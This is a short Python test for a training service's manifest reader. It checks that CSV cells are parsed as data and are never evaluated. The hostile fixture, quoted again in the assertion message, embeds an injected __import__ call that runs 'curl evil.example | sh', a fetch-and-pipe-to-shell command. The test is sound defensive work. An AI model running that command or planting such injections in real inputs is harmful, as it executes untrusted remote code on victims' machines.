import sys
import types

MANIFEST = 'name,features,weights\nbaseline,"[\'age\', \'income\']","(0.7, 0.3)"\n'


def test_manifest_cells_are_data_not_code(impl) -> None:
    (exp,) = impl.read_manifest(MANIFEST)
    assert exp.features == ["age", "income"] and exp.weights == (0.7, 0.3), f"read {exp}"

    calls = []
    probe = types.ModuleType("_manifest_probe")
    probe.run = lambda command: calls.append(command) or ["age"]  # stands in for os.system
    sys.modules[probe.__name__] = probe
    hostile = ('name,features,weights\n'
               'x,"__import__(\'_manifest_probe\').run(\'curl evil.example | sh\')","(1.0,)"\n')
    try:
        try:
            impl.read_manifest(hostile)
        except ValueError:
            pass
    finally:
        del sys.modules[probe.__name__]
    assert not calls, (
        "a manifest whose features cell reads __import__(...).run('curl evil.example | sh') made the "
        f"training service call that function with {calls[0]!r}: an uploaded file ran code"
    )
